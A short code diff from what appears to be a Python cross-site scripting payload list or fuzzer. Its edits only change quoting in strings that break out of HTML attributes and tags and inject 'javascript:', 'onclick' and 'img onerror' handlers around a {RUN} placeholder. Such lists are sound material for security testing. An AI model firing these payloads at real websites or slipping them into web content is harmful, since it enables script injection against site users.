@@ -60,7 +60,7 @@ javascript:{RUN}
 
 _WRAPS = [
     "{0}",
-    '"\'>{0}',
+    "\"'>{0}",
     "</textarea></title></style></script>{0}",
     "--><!-- x -->]]>{0}",
     "- {0}",
@@ -86,5 +86,5 @@ ADDRESSES = [
     "//",
     "about:blank",
     f'https://example.org/"onclick="{RUN}',
-    f"https://example.org/#:~:text=x\"><img src=x onerror={RUN}>",
+    f'https://example.org/#:~:text=x"><img src=x onerror={RUN}>',
 ]
